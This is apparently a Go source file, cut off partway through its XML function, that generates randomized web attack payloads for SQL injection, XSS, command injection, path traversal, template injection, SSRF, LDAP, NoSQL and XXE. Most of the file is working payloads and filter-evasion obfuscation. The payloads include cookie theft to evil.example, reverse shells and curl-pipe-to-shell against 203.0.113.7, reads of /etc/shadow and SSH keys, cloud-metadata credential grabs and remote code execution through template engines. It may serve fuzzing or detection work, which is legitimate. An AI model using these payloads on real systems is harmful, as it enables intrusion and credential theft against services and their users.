package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"strings"
)

// atk is one generated attack value: what the application sees after the
// decoding named by its item's Encoding.
type atk struct {
	value string
	raw   []byte // binary payload (serialized objects); value is empty
	obf   string // obfuscation of the payload itself, "" for none
	param string // a parameter name an application would use it in
	// jsonValue, when set, is embedded as a JSON value (NoSQL operator
	// objects) instead of a string; argName is the same in bracket syntax
	// (username[$ne]) for query strings and forms.
	jsonValue any
	argName   string
	argValue  string
	doc       bool // value is a whole document (XXE): sent as the body
}

// Attack payload generators, one per class. Each returns a working attack
// for the context its param names: values are what exploit that class in
// an application that uses the parameter the way its name says.

var sqlTables = []string{"users", "accounts", "admin", "members", "customers", "wp_users", "orders", "information_schema.tables"}
var sqlCols = []string{"password", "passwd", "username", "email", "pass", "hash", "api_key", "table_name", "credit_card"}

func genSQLi(r *rand.Rand) atk {
	t, c := pick(r, sqlTables), pick(r, sqlCols)
	n := r.IntN(12) + 1
	nulls := strings.TrimSuffix(strings.Repeat("NULL,", n), ",")
	tmpls := []string{
		"' OR '1'='1", "' OR 1=1-- -", "admin'-- ", "1 OR 1=1", "1' AND SLEEP(5)-- -", "1; DROP TABLE " + t + "--",
		"' UNION SELECT username, " + c + " FROM " + t + "--", "1 UNION ALL SELECT " + nulls + "-- -",
		"-1' UNION SELECT 1,@@version,3#", "'; EXEC xp_cmdshell('whoami')--", "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -",
		"1 AND (SELECT 1 FROM pg_sleep(5))", "' || (SELECT " + c + " FROM " + t + " LIMIT 1) || '", "1' ORDER BY " + fmt.Sprint(n) + "-- -",
		"' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
		fmt.Sprintf("1 AND ASCII(SUBSTRING((SELECT %s FROM %s WHERE id=1),%d,1))>%d", c, t, 1+r.IntN(20), 40+r.IntN(80)),
		"'; WAITFOR DELAY '0:0:5'--", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ", "\" OR \"\"=\"", "') OR ('1'='1",
		"1)) OR ((1=1", "admin' #", "' OR 'x' LIKE 'x", "' HAVING 1=1--", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
		"(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)", "1;SELECT pg_sleep(5)", "'||UTL_INADDR.GET_HOST_ADDRESS('x.attacker.example')||'",
		"' AND 1=0 UNION ALL SELECT LOAD_FILE('/etc/passwd')-- -", "1 INTO OUTFILE '/var/www/html/s.php' LINES TERMINATED BY 0x3c3f706870206576616c28245f504f53545b305d293b3f3e",
		"1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -", "' AND (SELECT 4862 FROM (SELECT(SLEEP(5)))abc)-- -",
		"1 AND 1=(SELECT COUNT(*) FROM " + t + ")", "'; UPDATE " + t + " SET " + c + "='x' WHERE '1'='1", "1' AND '1'='1", "1 AND 5=5",
		"' OR EXISTS(SELECT * FROM " + t + ")--", "1' UNION SELECT NULL,sqlite_version()-- -", "x' AND 1=(SELECT 1 FROM " + t + " WHERE " + c + " LIKE 'a%')-- -",
		"1 OR SLEEP(5)#", "1' OR BENCHMARK(5000000,MD5(1))#", "') UNION SELECT " + c + " FROM " + t + " WHERE ('a'='a",
		"'; INSERT INTO " + t + " VALUES ('hacker','x')--", "1;SHUTDOWN--", "%' AND 1=1 AND '%'='", "1 LIMIT 1 OFFSET 1 UNION SELECT " + c + " FROM " + t,
		"@@version", "1' and substring(version(),1,1)='5", "0x31 OR 1=1", "1' OR '1'='1' /*", "1 XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))XOR 1",
		"'+(SELECT 0 WHERE 1=1 AND SLEEP(5))+'", "1' AND (SELECT SUBSTR(" + c + ",1,1) FROM " + t + " LIMIT 1)='a",
	}
	a := atk{value: pick(r, tmpls), param: pick(r, []string{"id", "user", "q", "sort", "category", "order", "page", "item", "username", "search", "pid", "cat"})}
	switch r.IntN(9) {
	case 0:
		a.value, a.obf = sqlKeywordCase(a.value, r), "case"
	case 1:
		a.value, a.obf = strings.ReplaceAll(a.value, " ", pick(r, []string{"/**/", "/*x*/", "/*!*/"})), "comment"
	case 2:
		a.value, a.obf = sqlVersioned(a.value), "comment"
	case 3:
		a.value, a.obf = sqlWhitespace(a.value, r), "whitespace"
	case 4:
		if v, ok := sqlQuoteSplit(a.value, r); ok {
			a.value, a.obf = v, "quote_split"
		}
	case 5:
		if strings.Contains(a.value, "=") {
			a.value, a.obf = strings.Replace(a.value, "=", " LIKE ", 1), "equaltolike"
		}
	}
	return a
}

var sqlKeywords = []string{"select", "union", "all", "from", "where", "and", "or", "sleep", "order", "by", "insert", "update", "drop", "table", "exec", "waitfor", "delay", "having", "limit", "like", "null", "concat", "version", "benchmark", "case", "when", "then", "else", "end"}

func sqlKeywordCase(s string, r *rand.Rand) string {
	words := strings.Fields(s)
	for i, w := range words {
		for _, k := range sqlKeywords {
			if strings.EqualFold(w, k) {
				words[i] = randomCase(w, r)
			}
		}
	}
	return strings.Join(words, " ")
}

// sqlVersioned wraps keywords in MySQL versioned comments: /*!50000UNION*/.
func sqlVersioned(s string) string {
	for _, k := range []string{"UNION", "SELECT", "AND", "OR", "SLEEP", "union", "select"} {
		s = strings.ReplaceAll(s, " "+k+" ", " /*!50000"+k+"*/ ")
	}
	return s
}

func sqlWhitespace(s string, r *rand.Rand) string {
	var b strings.Builder
	for _, c := range s {
		if c == ' ' {
			b.WriteString(pick(r, []string{"\t", "\n", "\r\n", "\x0b", "\x0c", "  ", "+"}))
			continue
		}
		b.WriteRune(c)
	}
	v := b.String()
	return strings.ReplaceAll(v, "+", " ")
}

// sqlQuoteSplit splits string literals: 'admin' becomes 'ad'||'min' or
// CONCAT('ad','min') or a hex literal.
func sqlQuoteSplit(s string, r *rand.Rand) (string, bool) {
	i := strings.Index(s, "'1'")
	if i < 0 {
		i = strings.Index(s, "'a")
		if i < 0 {
			return "", false
		}
		j := strings.Index(s[i+1:], "'")
		if j < 0 {
			return "", false
		}
		lit := s[i+1 : i+1+j]
		if len(lit) < 2 {
			return "", false
		}
		var rep string
		switch r.IntN(3) {
		case 0:
			rep = "'" + lit[:1] + "'||'" + lit[1:] + "'"
		case 1:
			rep = "CONCAT('" + lit[:1] + "','" + lit[1:] + "')"
		default:
			rep = fmt.Sprintf("0x%x", lit)
		}
		return s[:i] + rep + s[i+2+j:], true
	}
	return s[:i] + pick(r, []string{"CHAR(49)", "0x31", "'1'||''"}) + s[i+3:], true
}

var jsCalls = []string{
	"alert(1)", "alert(document.domain)", "alert(document.cookie)", "confirm.call(null,1)", "(alert)(1)", "alert?.(document.cookie)",
	"prompt`1`", "print()", "fetch('//evil.example/c?'+document.cookie)", "location='//evil.example/?c='+document.cookie",
	"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))", "Reflect.apply(alert,null,[1])", "[1].find(alert)", "self[`al`+`ert`](1)",
	"new Image().src='//evil.example/?'+document.cookie", "top['al'+'ert'](1)", "window['al\\x65rt'](1)", "setTimeout('alert(1)')",
	"import('//evil.example/m.js')", "navigator.sendBeacon('//evil.example/',localStorage.token)", "confirm(1)", "(0,alert)(1)",
	"globalThis.alert(1)", "window.onerror=alert;throw 1", "Function('alert(1)')()", "document.write('<img src=//evil.example/'+document.cookie+'>')",
}

func genXSS(r *rand.Rand) atk {
	js := pick(r, jsCalls)
	tmpls := []string{
		"<script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>", "<svg/onload=%s>", "\"><script>%s</script>", "'><img src=x onerror=%s>",
		"<iframe src=\"javascript:%s\">", "<a href=\"javascript:%s\">click</a>", "<body onload=%s>", "<details open ontoggle=%s>",
		"<input autofocus onfocus=%s>", "<math><mtext><table><mglyph><style><img src=x onerror=%s>", "<video><source onerror=%s>",
		"</script><script>%s</script>", "<svg><animate onbegin=%s attributeName=x dur=1s>", "<marquee onstart=%s>",
		"\" autofocus onfocus=\"%s", "x\" onmouseover=\"%s", "<form action=javascript:%s><input type=submit>", "';%s;//", "\"-%s-\"",
		"javascript:%s", "<img src=1 onerror=\"%s\">", "<div onpointerover=%s>hover</div>", "<select autofocus onfocus=%s>", "<textarea autofocus onfocus=%s>",
		"<object data=\"javascript:%s\">", "<embed src=\"javascript:%s\">", "<isindex type=image src=1 onerror=%s>", "<style onload=%s>",
		"<x contenteditable onblur=%s>lose focus", "<audio src onloadstart=%s>", "<svg><script>%s</script></svg>", "<img src=\"x\" onerror='%s'/>",
		"'-%s-'", "</title><script>%s</script>", "<iframe srcdoc=\"<script>%s</script>\">", "<a href=\"data:text/html,<script>%s</script>\">x</a>",
	}
	extra := []string{
		"<script src=//evil.example/x.js></script>", "<base href=\"//evil.example/\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
		"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "{{constructor.constructor('alert(1)')()}}",
		"<link rel=import href=//evil.example/x>", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a>",
		"<img src=x:alert(1) onerror=eval(src)>", "<iframe src=//evil.example/phish width=100% height=100%>",
	}
	var v string
	if r.IntN(8) == 0 {
		v = pick(r, extra)
	} else {
		t := pick(r, tmpls)
		if strings.ContainsAny(js, " \t>") {
			// an unquoted attribute value ends at a space or '>': quote it,
			// or the handler is cut short and is no attack
			t = strings.Replace(strings.Replace(t, "=%s", "=\"%s\"", 1), "=javascript:%s", "=\"javascript:%s\"", 1)
		}
		v = fmt.Sprintf(t, js)
	}
	a := atk{value: v, param: pick(r, []string{"q", "search", "comment", "name", "message", "redirect", "title", "callback", "returnUrl", "msg", "text", "bio"})}
	switch r.IntN(9) {
	case 0:
		a.value, a.obf = xssTagCase(a.value, r), "case"
	case 1:
		if strings.Contains(a.value, " on") {
			a.value, a.obf = xssWhitespace(a.value, r), "whitespace"
		}
	case 2:
		// entities in an event handler's value are decoded by the browser
		// before the script runs
		if v, ok := xssHandlerEntities(a.value, r); ok {
			a.value, a.obf = v, "html_entity"
		}
	case 3:
		if strings.Contains(a.value, "(") {
			a.value, a.obf = strings.Replace(a.value, "(", "/**/(", 1), "comment"
		}
	case 4:
		if strings.Contains(a.value, "<script>alert(") {
			a.value, a.obf = strings.Replace(a.value, "<script>alert(", "<script>\\u0061lert(", 1), "js_escape"
		}
	case 5:
		if strings.Contains(a.value, "<script>") {
			a.value, a.obf = strings.ReplaceAll(strings.ReplaceAll(a.value, "<script>", "<scr<script>ipt>"), "</script>", "</scr</script>ipt>"), "nesting"
		}
	}
	return a
}

// xssHandlerEntities encodes the value of the first event-handler
// attribute (on...=) of a tag as character references, keeping its quotes.
func xssHandlerEntities(s string, r *rand.Rand) (string, bool) {
	if !strings.HasPrefix(s, "<") {
		return "", false
	}
	j := strings.Index(s, " on")
	if j < 0 {
		return "", false
	}
	k := strings.IndexByte(s[j:], '=')
	if k < 0 || strings.ContainsAny(s[j+1:j+k], " >") {
		return "", false
	}
	i := j + k + 1
	end := -1
	if i < len(s) && (s[i] == '"' || s[i] == '\'') {
		i++
		end = strings.IndexByte(s[i:], s[i-1])
	} else {
		end = strings.IndexAny(s[i:], "> \t\n")
	}
	if end <= 0 {
		return "", false
	}
	return s[:i] + htmlEntities(s[i:i+end], r.IntN(2) == 0, false, r) + s[i+end:], true
}

func xssTagCase(s string, r *rand.Rand) string {
	for _, k := range []string{"script", "img", "svg", "onerror", "onload", "iframe", "javascript", "body", "onfocus", "details", "ontoggle"} {
		s = strings.ReplaceAll(s, k, randomCase(k, r))
	}
	return s
}

func xssWhitespace(s string, r *rand.Rand) string {
	i := strings.Index(s, " on")
	return s[:i] + pick(r, []string{"/", "\t", "\n", "\r\n", "/x/", "\x0c"}) + s[i+1:]
}

var shellCmds = []string{
	"id", "whoami", "uname -a", "cat /etc/passwd", "curl http://evil.example/s.sh|sh", "wget -qO- http://203.0.113.7/x|bash",
	"nc -e /bin/sh 203.0.113.7 4444", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "ping -c 10 127.0.0.1", "sleep 10", "rm -rf /var/www/*",
	"python3 -c 'import os;os.system(\"id\")'", "perl -e 'exec \"/bin/sh\"'", "echo aWQ= | base64 -d | sh", "ls -la /", "nslookup x.evil.example",
	"cat /etc/shadow", "env", "busybox nc 203.0.113.7 4444 -e sh", "php -r 'system(\"id\");'", "chmod +x /tmp/x; /tmp/x", "curl -d @/etc/passwd evil.example",
	"mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", "find / -perm -4000", "crontab -l", "cat ~/.ssh/id_rsa", "ps aux", "netstat -an",
}
var winCmds = []string{"whoami", "type C:\\windows\\win.ini", "net user", "dir C:\\", "powershell -nop -c \"iwr http://evil.example/x.ps1|iex\"", "cmd /c ver", "ipconfig /all", "certutil -urlcache -f http://evil.example/x.exe x.exe"}

func genShell(r *rand.Rand) atk {
	cmd := pick(r, shellCmds)
	win := r.IntN(7) == 0
	if win {
		cmd = pick(r, winCmds)
	}
	a := atk{param: pick(r, []string{"host", "ip", "file", "target", "domain", "filename", "path", "dir", "email", "cmd", "exec", "ping", "daemon", "log"})}
	obf := ""
	if !win {
		switch r.IntN(8) {
		case 0:
			cmd, obf = shellQuoteSplit(cmd, r), "quote_split"
		case 1:
			cmd, obf = strings.ReplaceAll(cmd, " ", pick(r, []string{"${IFS}", "$IFS$9", "\t", "${IFS%??}"})), "whitespace"
		case 2:
			if f := strings.Fields(cmd); len(f) == 2 {
				cmd, obf = "{"+f[0]+","+f[1]+"}", "whitespace"
			}
		case 3:
			cmd, obf = shellBackslash(cmd, r), "quote_split"
		case 4:
			if strings.HasPrefix(cmd, "cat /etc/") {
				cmd, obf = "/???/c?t /???/"+strings.Repeat("?", len(cmd)-len("cat /etc/")), "glob"
			}
		case 5:
			f := strings.Fields(cmd)
			var hx strings.Builder
			for _, c := range []byte(f[0]) {
				fmt.Fprintf(&hx, "\\x%02x", c)
			}
			cmd, obf = "$'"+hx.String()+"'"+strings.TrimPrefix(cmd, f[0]), "hex_escape"
		case 6:
			cmd, obf = "echo "+b64(cmd)+"|base64 -d|sh", "base64_inline"
		}
	} else if r.IntN(3) == 0 {
		cmd, obf = randomCase(cmd, r), "case"
	}
	a.obf = obf
	seps := []string{";%s", "|%s", "||%s", "&&%s", "&%s", "$(%s)", "`%s`", "\n%s", "127.0.0.1; %s", "file.txt | %s", "'; %s; '", "\"; %s #",
		"x$(%s)", "a.png;%s", "localhost && %s", "8.8.8.8|%s", "() { :;}; /bin/bash -c '%s'", "%%0a%s", "|| %s ||", "; %s #"}
	if win {
		seps = []string{"& %s", "| %s", "&& %s", "127.0.0.1 & %s", "x\" & %s & \"", "\n%s"}
	}
	sep := pick(r, seps)
	if sep == "%%0a%s" {
		sep = "\n%s"
	}
	if obf == "whitespace" && strings.HasPrefix(sep, "() {") {
		sep = ";%s"
	}
	a.value = fmt.Sprintf(sep, cmd)
	return a
}

// shellQuoteSplit inserts empty quotes inside words: cat /et'c/pa'ss'wd.
func shellQuoteSplit(cmd string, r *rand.Rand) string {
	var b strings.Builder
	for i, c := range cmd {
		b.WriteRune(c)
		if i > 0 && i < len(cmd)-1 && c != ' ' && cmd[i+1] != ' ' && c != '/' && r.IntN(3) == 0 {
			b.WriteString(pick(r, []string{"''", "\"\"", "'", "\""}))
		}
	}
	// keep quotes balanced: an unpaired single ' or " is closed after the next char
	s := b.String()
	out := []rune{}
	open := rune(0)
	for _, c := range s {
		out = append(out, c)
		if c == '\'' || c == '"' {
			if open == 0 {
				open = c
			} else if open == c {
				open = 0
			}
		}
	}
	if open != 0 {
		out = append(out, open)
	}
	return string(out)
}

func shellBackslash(cmd string, r *rand.Rand) string {
	f := strings.SplitN(cmd, " ", 2)
	var b strings.Builder
	for i, c := range f[0] {
		if i > 0 && r.IntN(2) == 0 {
			b.WriteByte('\\')
		}
		b.WriteRune(c)
	}
	if len(f) == 2 {
		return b.String() + " " + f[1]
	}
	return b.String()
}

var travFiles = []string{"etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline", "root/.ssh/id_rsa", "var/log/apache2/access.log", "etc/nginx/nginx.conf", "home/app/.env"}
var travWinFiles = []string{"windows\\win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts", "inetpub\\wwwroot\\web.config"}

func genTraversal(r *rand.Rand) atk {
	depth := 2 + r.IntN(7)
	f := pick(r, travFiles)
	a := atk{param: pick(r, []string{"file", "path", "page", "template", "doc", "include", "lang", "download", "img", "filename", "view", "layout"})}
	switch r.IntN(14) {
	case 0:
		a.value = strings.Repeat("..\\", depth) + pick(r, travWinFiles)
	case 1:
		a.value = "/" + f
	case 2:
		a.value, a.obf = strings.Repeat("....//", depth)+f, "nesting"
	case 3:
		a.value = "file:///" + f
	case 4:
		a.value = "php://filter/convert.base64-encode/resource=" + pick(r, []string{"index.php", "config.php", "../wp-config.php", "/etc/passwd"})
	case 5:
		a.value = strings.Repeat("../", depth) + f + "\x00.png"
		a.obf = "null_byte"
	case 6:
		a.value = "/var/www/html/" + strings.Repeat("../", depth) + f
	case 7:
		a.value = strings.Repeat("..;/", depth) + "WEB-INF/web.xml"
	case 8:
		a.value, a.obf = strings.Repeat("%2e%2e%2f", depth)+f, "url_in_value"
	case 9:
		a.value, a.obf = strings.Repeat("..%c0%af", depth)+f, "overlong_utf8"
	case 10:
		a.value = "C:\\" + pick(r, travWinFiles)
	case 11:
		a.value = pick(r, []string{"../.env", "../../config/database.yml", "../../../.git/config", "../WEB-INF/web.xml", "../../app/etc/local.xml", "../../.aws/credentials"})
	default:
		a.value = strings.Repeat("../", depth) + f
	}
	if a.obf == "" && r.IntN(6) == 0 && strings.Contains(a.value, "../") {
		a.value, a.obf = strings.ReplaceAll(a.value, "../", pick(r, []string{"..//", "./../", "..\\/", "..///"})), "whitespace"
	}
	return a
}

func genSSTI(r *rand.Rand) atk {
	cmd := pick(r, []string{"id", "whoami", "cat /etc/passwd", "uname -a", "curl evil.example/x|sh"})
	tmpls := []string{
		"{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "{{7*'7'}}", "${{7*7}}", "@(7*7)", "{{config.items()}}", "{{config}}",
		"{{self.__init__.__globals__.__builtins__.__import__('os').popen('" + cmd + "').read()}}",
		"{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('" + cmd + "').read()}}",
		"{{lipsum.__globals__.os.popen('" + cmd + "').read()}}", "{{cycler.__init__.__globals__.os.popen('" + cmd + "').read()}}",
		"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"" + cmd + "\")}", "${T(java.lang.Runtime).getRuntime().exec('" + cmd + "')}",
		"*{T(java.lang.Runtime).getRuntime().exec('" + cmd + "')}", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"" + cmd + "\"))",
		"{php}echo `" + cmd + "`;{/php}", "{system('" + cmd + "')}", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"" + cmd + "\")}}",
		"{{['" + cmd + "']|filter('system')}}", "<%= system(\"" + cmd + "\") %>", "<%= `" + cmd + "` %>", "#{`" + cmd + "`}",
		"{{constructor.constructor('return process')().mainModule.require('child_process').execSync('" + cmd + "')}}",
		"${{<%[%'\"}}%\\.", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('" + cmd + "')\")()}}",
		"${\"freemarker.template.utility.Execute\"?new()(\"" + cmd + "\")}", "{{ ''.__class__.__base__.__subclasses__() }}",
		"{% import os %}{{ os.popen('" + cmd + "').read() }}", "{{request|attr('application')|attr('__globals__')}}", "${7777*7777}", "{{1337*1337}}",
		"<%= File.open('/etc/passwd').read %>", "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.pop}}{{/with}}{{/with}}",
		"${__import__('os').system('" + cmd + "')}", "{{ get_flashed_messages.__globals__['current_app'].config }}", "{{settings.SECRET_KEY}}",
		"#{T(java.lang.System).getenv()}", "${applicationScope}", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('" + cmd + "')}",
	}
	a := atk{value: pick(r, tmpls), param: pick(r, []string{"name", "template", "greeting", "msg", "subject", "title", "preview", "content", "email", "username"})}
	switch r.IntN(6) {
	case 0:
		if strings.HasPrefix(a.value, "{{") {
			a.value, a.obf = "{{ "+strings.TrimSpace(a.value[2:len(a.value)-2])+" }}", "whitespace"
		}
	case 1:
		if strings.Contains(a.value, "__class__") {
			a.value, a.obf = strings.ReplaceAll(a.value, ".__class__", "['__cla'+'ss__']"), "quote_split"
		}
	case 2:
		if strings.Contains(a.value, "__globals__") {
			a.value, a.obf = "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('"+cmd+"')|attr('read')()}}", "hex_escape"
		}
	}
	return a
}

var ssrfTargets = []string{
	"http://127.0.0.1/", "http://127.0.0.1:8080/admin", "http://localhost:6379/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "http://[::1]:80/", "http://[::ffff:127.0.0.1]/",
	"http://0/", "http://0x7f000001/", "http://2130706433/", "http://017700000001/", "http://127.1/", "http://10.0.0.5:8500/v1/agent/self",
	"http://192.168.1.1/cgi-bin/luci", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "dict://127.0.0.1:11211/stats", "file:///etc/passwd",
	"http://169.254.169.254.nip.io/latest/meta-data/", "http://evil.example@127.0.0.1/", "http://127.0.0.1#@example.com/", "http://[0:0:0:0:0:ffff:7f00:1]/",
	"ftp://127.0.0.1:21/", "ldap://127.0.0.1:389/", "http://100.100.100.200/latest/meta-data/", "http://169.254.170.2/v2/credentials",
	"https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "jar:http://127.0.0.1:8080/x.jar!/", "http://localhost:2375/containers/json",
	"http://127.0.0.1:9200/_cat/indices", "http://[fd00:ec2::254]/latest/meta-data/", "http://instance-data/latest/meta-data/", "http://0177.0.0.1/",
	"http://127.0.0.1:8500/v1/kv/?recurse", "gopher://localhost:25/_HELO%20localhost", "http://169.254.169.254/metadata/v1/", "netdoc:///etc/passwd",
}

func genSSRF(r *rand.Rand) atk {
	a := atk{value: pick(r, ssrfTargets), param: pick(r, []string{"url", "webhook", "callback", "image_url", "feed", "target", "redirect_uri", "avatar", "proxy", "fetch", "link", "src", "endpoint"})}
	switch r.IntN(6) {
	case 0:
		if i := strings.Index(a.value, "://"); i > 0 {
			a.value, a.obf = randomCase(a.value[:i], r)+a.value[i:], "case"
		}
	case 1:
		if strings.Contains(a.value, "127.0.0.1") {
			a.value, a.obf = strings.Replace(a.value, "127.0.0.1", pick(r, []string{"%31%32%37.0.0.1", "127.000.000.001", "①②⑦.⓪.⓪.①", "127。0。0。1"}), 1), "ip_obfuscation"
		}
	}
	return a
}

func genLDAP(r *rand.Rand) atk {
	attr := pick(r, []string{"uid", "cn", "mail", "userPassword", "sAMAccountName", "objectClass", "description"})
	u := pick(r, []string{"admin", "administrator", "root", "jdoe", "svc_backup", "helpdesk", "m.mueller", "guest"})
	grp := pick(r, []string{"Domain Admins", "Administrators", "Enterprise Admins", "IT", "vpn-users"})
	pre := pick(r, []string{"a", "s", "p", "1", "x"})
	tmpls := []string{
		"*)(" + attr + "=*))(|(" + attr + "=*", "*(|(objectclass=*))", u + ")(&)", u + ")(|(password=*))", "*)(|(mail=*))", "x)(|(cn=*)",
		"*))\x00", u + "*)((|userPassword=*)", "*)(objectClass=*))(&(objectClass=void", ")(cn=*))(|(cn=*", "*)(" + attr + "=*",
		u + ")(!(&(1=0)(userPassword=x)))", "*)(&(objectClass=user)(memberOf=CN=" + grp + ",CN=Users,DC=corp,DC=example))", "*)(uid=*))(|(uid=*",
		u + ")(|(objectClass=*)", "*)(userPassword=" + pre + "*", u + ")(userPassword=*)", "*)(|(cn=" + u + ")(cn=root)", "*(|(mail=*))",
		u + ")(|(" + attr + "=*))", "*)(|(" + attr + "=" + pre + "*)",
	}
	a := atk{value: pick(r, tmpls), param: pick(r, []string{"user", "username", "uid", "login", "cn", "filter", "search", "name", "group", "member"})}
	if r.IntN(6) == 0 {
		a.value, a.obf = strings.ReplaceAll(a.value, ")(", ") ("), "whitespace"
	}
	return a
}

func genNoSQL(r *rand.Rand) atk {
	user := pick(r, []string{"username", "user", "login", "email", "name"})
	pass := pick(r, []string{"password", "pass", "pwd", "passwd"})
	// the targeted account, prefixes and delays vary
	who := pick(r, []string{"admin", "root", "administrator", "support", "jdoe", "superuser"})
	ms := fmt.Sprint(1000 * (2 + r.IntN(9)))
	pre := pick(r, []string{"^a", "^adm", "^r", "^s", "^1", "^p"})
	switch r.IntN(4) {
	case 0, 1: // operator objects: JSON bodies, bracket syntax in query and forms
		op := pick(r, []string{"$ne", "$gt", "$regex", "$nin", "$exists", "$in", "$where", "$expr"})
		var v any
		var argV string
		switch op {
		case "$ne":
			x := pick(r, []string{"x", "1", "", "null", randAlnum(r, 6)})
			v, argV = map[string]any{op: x}, x
		case "$gt":
			v, argV = map[string]any{op: ""}, ""
		case "$regex":
			x := pick(r, []string{".*", pre, pre + ".*", "^.{" + fmt.Sprint(1+r.IntN(12)) + "}$"})
			v, argV = map[string]any{op: x}, x
		case "$nin":
			x := pick(r, []string{"a", "x", "guest", randAlnum(r, 5)})
			v, argV = map[string]any{op: []any{x}}, x
		case "$exists":
			v, argV = map[string]any{op: true}, "true"
		case "$in":
			v, argV = map[string]any{op: []any{who, "root"}}, who
		case "$where":
			w := pick(r, []string{"sleep(" + ms + ") || true", "function(){var d=new Date();while(new Date()-d<" + ms + "){};return true;}", "this.password.match(/" + pre + "/)", "1==1", "while(true){}", "this." + pass + ".length > " + fmt.Sprint(r.IntN(20))})
			return atk{jsonValue: map[string]any{user: who, "$where": w}, argName: "$where", argValue: w, value: w, param: "filter"}
		case "$expr":
			v = map[string]any{"$function": map[string]any{"body": "function(){return true}", "args": []any{}, "lang": "js"}}
			return atk{jsonValue: map[string]any{"$expr": v}, argName: "filter[$expr][$function][body]", argValue: "function(){return true}", value: "function(){return true}", param: "filter"}
		}
		obj := map[string]any{user: pick(r, []any{who, v}), pass: v}
		return atk{jsonValue: obj, argName: pass + "[" + op + "]", argValue: argV, param: pass, value: jsonMarshal(obj)}
	default: // injection into a server-side JavaScript expression ($where with string concatenation)
		v := pick(r, []string{"' || 'a'=='a", "';sleep(" + ms + ");'", "1; return true", "'; while(true){}; '", who + "' && this." + pass + ".match(/" + pre + ".*/)//",
			"'; return db." + pick(r, []string{"users", "accounts", "customers"}) + ".find(); var x='", "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<" + ms + ")", "' || 1==1//", "\"; return true; var a=\"",
			"'||this.role=='" + who + "'||'", who + "'||'1'=='1"})
		return atk{value: v, param: pick(r, []string{user, "q", "name", "search"}), obf: ""}
	}
}

func genXXE(r *rand.Rand) atk {
	f := pick(r, []string{"file:///etc/passwd", "file:///etc/hostname", "file:///c:/windows/win.ini", "php://filter/convert.base64-encode/resource=/etc/passwd", "http://169.254.169.254/latest/meta-data/", "expect://id", "netdoc:///etc/passwd", "jar:http://evil.example/x.zip!/a.txt"})
	root := pick(r, []string{"foo", "user", "order", "request", "data", "product", "comment"})
	el := pick(r, []string{"name", "id", "description", "email", "query"})
	decl := pick(r, []string{`<?xml version="1.0" encoding="UTF-8"?>`, `<?xml version="1.0"?>`, ""})
	docs := []string{
		decl + `<!DOCTYPE ` + root + ` [<!ENTITY xxe SYSTEM "` + f + `">]><` + root + `><` + el + `>&xxe;</` + el + `></` + root + `>`,
		decl + `<!DOCTYPE ` + root + ` [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><` + root + `>x</` + root + `>`,
		decl + `<!DOCTYPE ` + root + ` [<!ENTITY % file SYSTEM "` + f + `"><!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd">%dtd;%send;]><` + root + `/>`,
		decl + `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol4;</lolz>`,
		`<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "` + f + `">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>`,
		`<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "` + f + `">]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>`,
		`<` + root + ` xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="` + f + `"/></` + root + `>`,
		decl + `<!DOCTYPE ` + root + ` SYSTEM "http://evil.example/x.dtd"><` + root + `>&ent;</` + root + `>`,
